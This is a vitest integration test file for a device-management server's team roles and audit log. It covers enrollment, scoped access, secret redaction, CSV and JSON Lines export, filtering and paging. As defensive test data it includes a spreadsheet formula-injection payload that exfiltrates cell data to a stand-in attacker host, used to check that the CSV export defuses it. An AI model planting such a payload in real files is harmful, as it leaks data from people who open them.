import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  type ApiResult,
  asAdmin,
  bearer,
  onlineAgent,
  request,
  sendCommand,
  spawnAgent,
  startTestServer,
  type TestAgent,
  type TestServer,
  waitUntil,
} from '../helpers.js';

let ts: TestServer;
const agents: TestAgent[] = [];

async function http(
  method: string,
  path: string,
  opts: { body?: unknown; rawBody?: string; headers?: Record<string, string> } = {},
): Promise<ApiResult> {
  return request(ts, method, path, opts);
}

const admin = (method: string, path: string, body?: unknown): Promise<any> => asAdmin(ts, method, path, body);

/** RFC 4180: quoted fields with doubled quotes, commas and line breaks inside quotes, CRLF between records. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"' && cell === '') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else if (ch === '\n' || ch === '\r' || ch === '"') {
      throw new Error(`bare ${JSON.stringify(ch)} outside quotes at offset ${i}`);
    } else cell += ch;
  }
  if (quoted) throw new Error('unterminated quoted field');
  if (cell !== '' || row.length > 0) throw new Error('last record does not end with CRLF');
  return rows;
}

const FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"click")';
const SECRET_ENV = 'audit-test-secret-value-3f9a';
const fx = {
  adminTokenId: '',
  enrollmentTokenId: '',
  lab: '',
  prod: '',
  operatorToken: '',
  viewer: { cookie: '', csrf: '' },
  viewerTokenId: '',
  commandId: '',
};
const viewerHeaders = (csrf = true) => ({
  cookie: `outpost_session=${fx.viewer.cookie}`,
  ...(csrf ? { 'x-csrf-token': fx.viewer.csrf } : {}),
});

beforeAll(async () => {
  ts = await startTestServer();
  fx.adminTokenId = (await admin('GET', '/whoami')).id;
});
afterAll(async () => {
  for (const a of agents) await a.stop();
  await ts?.close();
});

describe('the team flow', () => {
  it('the admin enrolls a lab device (accepted by hand) and a prod device', async () => {
    // A formula in a name that reaches the audit log: the CSV export must defuse it.
    const token = await admin('POST', '/enrollment-tokens', { name: FORMULA, tags: ['lab'], autoAccept: false });
    fx.enrollmentTokenId = token.id;
    const pending = spawnAgent(ts, { enroll: token.token });
    agents.push(pending);
    fx.lab = await waitUntil(() => pending.identity().deviceId, 'pending agent identity');
    expect((await waitUntil(() => ts.device(fx.lab), 'pending device')).status).toBe('pending');
    expect((await admin('POST', `/devices/${fx.lab}/accept`)).status).toBe('accepted');
    await waitUntil(async () => {
      const r = await sendCommand(ts, fx.lab, 'system', 'ping', {}, 'wait=true&timeout=5');
      return r.body.status === 'succeeded';
    }, 'accepted lab device answering');

    const prod = await onlineAgent(ts, { enroll: await ts.enrollmentToken({ autoAccept: true, tags: ['prod'] }) });
    agents.push(prod.agent);
    fx.prod = prod.device.id;
  });

  it('an operator (lab) and a viewer (prod) are invited, accept, and log in; failed logins are kept', async () => {
    for (const [name, role, tags] of [
      ['olivia', 'operator', ['lab']],
      ['victor', 'viewer', ['prod']],
    ] as const) {
      const inv = await admin('POST', '/invitations', { name, role, tags });
      const r = await http('POST', '/auth/accept-invitation', {
        body: { code: inv.code, password: `${name}-password-ok` },
      });
      expect(r.status).toBe(201);
    }
    const token = await http('POST', '/auth/token', {
      body: { name: 'olivia', password: 'olivia-password-ok', tokenName: 'laptop' },
    });
    expect(token.status).toBe(201);
    fx.operatorToken = token.body.token;
    const login = await http('POST', '/auth/login', { body: { name: 'victor', password: 'victor-password-ok' } });
    expect(login.status).toBe(200);
    fx.viewer = {
      cookie: /outpost_session=([^;]*)/.exec(login.headers.get('set-cookie') ?? '')?.[1] ?? '',
      csrf: login.body.csrfToken,
    };
    expect((await http('POST', '/auth/login', { body: { name: 'victor', password: 'not-his-password' } })).status).toBe(
      401,
    );
    expect((await http('POST', '/auth/login', { body: { name: 'mallory', password: 'a-guess-at-all' } })).status).toBe(
      401,
    );
  });

  it('each sees only what role and tags allow', async () => {
    const op = bearer(fx.operatorToken);
    expect((await http('GET', '/devices', { headers: op })).body.items.map((d: any) => d.id)).toEqual([fx.lab]);
    expect((await http('GET', '/devices', { headers: viewerHeaders(false) })).body.items.map((d: any) => d.id)).toEqual(
      [fx.prod],
    );

    const sent = await http('POST', `/devices/${fx.lab}/commands?wait=true&timeout=30`, {
      body: {
        capability: 'exec',
        action: 'run',
        args: {
          argv: ['sh', '-c', 'test -n "$API_TOKEN" && echo "$PLAIN"'],
          env: { API_TOKEN: SECRET_ENV, PLAIN: 'visible' },
        },
      },
      headers: op,
    });
    expect(sent.status).toBe(200);
    expect(sent.body.result.stdout).toBe('visible\n');
    fx.commandId = sent.body.id;
    const outOfScope = await http('POST', `/devices/${fx.prod}/commands`, {
      body: { capability: 'system', action: 'ping' },
      headers: op,
    });
    expect(outOfScope.status).toBe(404);
    expect((await http('GET', '/audit', { headers: op })).status).toBe(403);

    const viewerRun = await http('POST', `/devices/${fx.prod}/commands`, {
      body: { capability: 'system', action: 'ping' },
      headers: viewerHeaders(),
    });
    expect(viewerRun.status).toBe(403);
    expect((await http('GET', `/devices/${fx.prod}/commands`, { headers: viewerHeaders(false) })).status).toBe(200);
    expect((await http('GET', `/devices/${fx.lab}/commands`, { headers: viewerHeaders(false) })).status).toBe(404);

    const made = await http('POST', '/api-tokens', { body: { name: 'scratch' }, headers: viewerHeaders() });
    expect(made.status).toBe(201);
    fx.viewerTokenId = made.body.id;
    expect((await http('DELETE', `/api-tokens/${made.body.id}`, { headers: viewerHeaders() })).status).toBe(204);
  });
});

describe('the audit log', () => {
  let all: any[];
  beforeAll(async () => {
    all = (await admin('GET', '/audit?limit=10000')).items;
  });
  const one = (pred: (e: any) => boolean, what: string) => {
    const found = all.filter(pred);
    expect(found, what).toHaveLength(1);
    return found[0];
  };

  it('holds a row for each of those actions: who, from where, what, on which device, and the outcome', () => {
    const adminRef = `token:${fx.adminTokenId}`;
    const created = (e: any) => e.action === 'enrollment-token.create' && e.target === fx.enrollmentTokenId;
    expect(one(created, 'enrollment-token.create')).toMatchObject({
      actor: adminRef,
      actorName: 'admin',
      ip: '127.0.0.1',
      target: fx.enrollmentTokenId,
      result: 'ok',
      details: { name: FORMULA, tags: ['lab'], autoAccept: false },
    });
    expect(one((e) => e.action === 'device.enroll' && e.deviceId === fx.lab, 'device.enroll lab')).toMatchObject({
      actor: `enrollment-token:${fx.enrollmentTokenId}`,
      actorName: FORMULA,
      target: fx.lab,
      result: 'ok',
      details: { status: 'pending', tags: ['lab'] },
    });
    expect(
      one((e) => e.action === 'device.enroll' && e.deviceId === fx.prod, 'device.enroll prod').details,
    ).toMatchObject({ status: 'accepted', tags: ['prod'] });
    expect(one((e) => e.action === 'device.accept', 'device.accept')).toMatchObject({
      actor: adminRef,
      target: fx.lab,
      deviceId: fx.lab,
      result: 'ok',
    });
    for (const [name, role, tags] of [
      ['olivia', 'operator', ['lab']],
      ['victor', 'viewer', ['prod']],
    ] as const) {
      expect(one((e) => e.action === 'user.invite' && e.target === `user:${name}`, `invite ${name}`)).toMatchObject({
        actor: adminRef,
        result: 'ok',
        details: { role, tags },
      });
      expect(
        one((e) => e.action === 'invitation.accept' && e.actor === `claimed:${name}`, `accept ${name}`).result,
      ).toBe('ok');
    }
    expect(one((e) => e.action === 'auth.token', 'auth.token')).toMatchObject({
      actorName: 'olivia',
      result: 'ok',
    });
    expect(one((e) => e.action === 'auth.login' && e.result === 'ok', 'auth.login ok')).toMatchObject({
      actor: expect.stringMatching(/^session:s-/),
      actorName: 'victor',
    });
    for (const name of ['victor', 'mallory']) {
      expect(one((e) => e.action === 'auth.login' && e.actor === `claimed:${name}`, `failed ${name}`)).toMatchObject({
        result: 'error',
        errorCode: 'E_UNAUTHENTICATED',
      });
    }
    const send = one(
      (e) => e.action === 'command.send' && e.actorName === 'olivia' && e.result === 'ok',
      'command.send',
    );
    expect(send).toMatchObject({ actorName: 'olivia', target: fx.commandId, deviceId: fx.lab });
    expect(send.details).toEqual({
      command: 'exec/run',
      args: {
        argv: ['sh', '-c', 'test -n "$API_TOKEN" && echo "$PLAIN"'],
        env: { API_TOKEN: '[redacted]', PLAIN: 'visible' },
      },
    });
    expect(
      one((e) => e.action === 'command.send' && e.errorCode === 'E_NOT_FOUND', 'command.send out of scope'),
    ).toMatchObject({ actorName: 'olivia', target: fx.prod, result: 'error' });
    expect(one((e) => e.action === 'command.send' && e.errorCode === 'E_DENIED', 'command.send denied')).toMatchObject({
      actorName: 'victor',
      target: fx.prod,
      result: 'error',
    });
    for (const action of ['api-token.create', 'api-token.revoke']) {
      expect(one((e) => e.action === action && e.actorName === 'victor', action)).toMatchObject({
        actor: expect.stringMatching(/^session:s-/),
        target: fx.viewerTokenId,
        result: 'ok',
      });
    }
    expect(JSON.stringify(all)).not.toContain(SECRET_ENV);
    expect(all.every((e) => e.ip === '127.0.0.1' || e.ip === null)).toBe(true);
  });

  it('exports the same rows as CSV (quoted, CRLF, formulas defused) and as JSON Lines', async () => {
    const csv = await http('GET', '/audit?format=csv', { headers: bearer(ts.token) });
    expect(csv.status).toBe(200);
    expect(csv.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(csv.headers.get('content-disposition')).toMatch(/^attachment; filename="outpost-audit.csv"$/);
    const [header, ...rows] = parseCsv(csv.text);
    const columns = [
      'id',
      'at',
      'actor',
      'actorName',
      'ip',
      'action',
      'target',
      'deviceId',
      'result',
      'errorCode',
      'details',
    ];
    expect(header).toEqual(columns);
    expect(rows.map((r) => Number(r[0]))).toEqual(all.map((e) => e.id));
    for (const [i, row] of rows.entries()) {
      const entry = all[i];
      expect(row).toHaveLength(columns.length);
      for (const [c, name] of columns.entries()) {
        const v = entry[name];
        const text = v === null ? '' : typeof v === 'string' ? v : JSON.stringify(v);
        // A cell a spreadsheet would run as a formula starts with ' instead.
        const expected = /^[=+\-@\t\r]/.test(text) ? `'${text}` : text;
        expect(row[c], `${name} of entry ${entry.id}`).toBe(expected);
      }
    }
    const enrolled = rows.find((r) => r[5] === 'device.enroll' && r[7] === fx.lab);
    expect(enrolled?.[3]).toBe(`'${FORMULA}`);
    expect(rows.flat().some((cell) => /^[=+\-@]/.test(cell))).toBe(false);

    const jsonl = await http('GET', '/audit?format=jsonl', { headers: bearer(ts.token) });
    expect(jsonl.headers.get('content-type')).toMatch(/^application\/x-ndjson/);
    expect(jsonl.text.endsWith('\n')).toBe(true);
    expect(
      jsonl.text
        .trimEnd()
        .split('\n')
        .map((l) => JSON.parse(l)),
    ).toEqual(all);
  });

  it('filters by actor, device, action prefix and time range', async () => {
    const q = async (query: string) => (await admin('GET', `/audit?limit=10000&${query}`)).items as any[];

    const victor = await q('actor=victor');
    expect(victor.length).toBeGreaterThanOrEqual(4);
    expect(victor.every((e) => e.actorName === 'victor')).toBe(true);
    expect(victor.map((e) => e.action)).toEqual(
      expect.arrayContaining(['auth.login', 'command.send', 'api-token.create', 'api-token.revoke']),
    );
    expect((await q('actor=claimed:mallory')).map((e) => [e.action, e.result])).toEqual([['auth.login', 'error']]);
    expect((await q(`actor=token:${fx.adminTokenId}`)).every((e) => e.actorName === 'admin')).toBe(true);

    const lab = await q(`device=${fx.lab}`);
    expect(lab.every((e) => e.deviceId === fx.lab)).toBe(true);
    expect(lab.map((e) => e.action)).toEqual(
      expect.arrayContaining(['device.enroll', 'device.accept', 'command.send']),
    );

    const device = await q('action=device.*');
    expect(device.length).toBeGreaterThanOrEqual(3);
    expect(device.every((e) => e.action.startsWith('device.'))).toBe(true);
    expect(device).toEqual(all.filter((e) => e.action.startsWith('device.')));
    expect(await q('action=device')).toEqual([]);
    expect((await q('action=command.send')).length).toBe(all.filter((e) => e.action === 'command.send').length);

    const middle = all[Math.floor(all.length / 2)];
    const from = await q(`from=${encodeURIComponent(middle.at)}`);
    const to = await q(`to=${encodeURIComponent(middle.at)}`);
    expect(from.map((e) => e.id)).toContain(middle.id);
    expect(to.map((e) => e.id)).not.toContain(middle.id);
    expect(from.every((e) => e.at >= middle.at)).toBe(true);
    expect(to.every((e) => e.at < middle.at)).toBe(true);
    expect([...to, ...from].map((e) => e.id)).toEqual(all.map((e) => e.id));
    const window = await q(`from=${encodeURIComponent(all[1].at)}&to=${encodeURIComponent(middle.at)}&actor=admin`);
    expect(window.every((e) => e.actorName === 'admin' && e.at >= all[1].at && e.at < middle.at)).toBe(true);

    for (const bad of ['limit=0', 'limit=10001', 'format=xml', 'after=-1', 'sort=desc']) {
      const r = await http('GET', `/audit?${bad}`, { headers: bearer(ts.token) });
      expect(r.status, bad).toBe(400);
      expect(r.body.error.code, bad).toBe('E_BAD_ARGS');
    }
  });

  // Once a bug: any string passed as a date-time, so `from=yesterday` became NaN and answered 200
  // with no rows: an investigator saw an empty log instead of an error.
  it('a malformed time filter is E_BAD_ARGS, not an empty log', async () => {
    for (const bad of ['from=yesterday', 'to=not-a-date', 'from=2024-13-45T99:99:99Z']) {
      const r = await http('GET', `/audit?${bad}`, { headers: bearer(ts.token) });
      expect(r.status, bad).toBe(400);
      expect(r.body.error.code, bad).toBe('E_BAD_ARGS');
    }
  });

  it('pages with after/next, oldest first, without gaps or repeats', async () => {
    const seen: number[] = [];
    let after: number | null = 0;
    let pages = 0;
    while (after !== null) {
      const page: any = await admin('GET', `/audit?limit=4&after=${after}`);
      expect(page.items.length).toBeLessThanOrEqual(4);
      if (page.next !== null) expect(page.next).toBe(page.items.at(-1).id);
      seen.push(...page.items.map((e: any) => e.id));
      after = page.next;
      pages++;
    }
    expect(pages).toBeGreaterThan(2);
    const ids = all.map((e) => e.id);
    // Rows added since `all` was read (the admin's own reads are not audited, so none are expected).
    expect(seen.slice(0, ids.length)).toEqual(ids);
    expect([...seen].sort((a, b) => a - b)).toEqual(seen);
    expect(new Set(seen).size).toBe(seen.length);
  });

  it('cannot be changed through the API, and outlives the users it names', async () => {
    const doc = await http('GET', '/../docs/json');
    const auditPaths = Object.entries(doc.body.paths as Record<string, object>).filter(([p]) => p.includes('audit'));
    expect(auditPaths.map(([p, ops]) => [p, Object.keys(ops)])).toEqual([['/api/v1/audit', ['get']]]);
    for (const [method, path] of [
      ['DELETE', '/audit'],
      ['POST', '/audit'],
      ['PUT', '/audit'],
      ['PATCH', '/audit'],
      ['DELETE', `/audit/${all[0].id}`],
      ['PATCH', `/audit/${all[0].id}`],
    ]) {
      const r = await http(method as string, path as string, { body: {}, headers: bearer(ts.token) });
      expect(r.status, `${method} ${path}`).toBe(404);
      expect(r.body.error.code).toBe('E_NOT_FOUND');
    }
    await admin('DELETE', '/users/victor');
    const after = (await admin('GET', '/audit?limit=10000')).items;
    expect(after.slice(0, all.length)).toEqual(all);
    expect(after.at(-1)).toMatchObject({ action: 'user.delete', target: 'user:victor', result: 'ok' });
  });
});
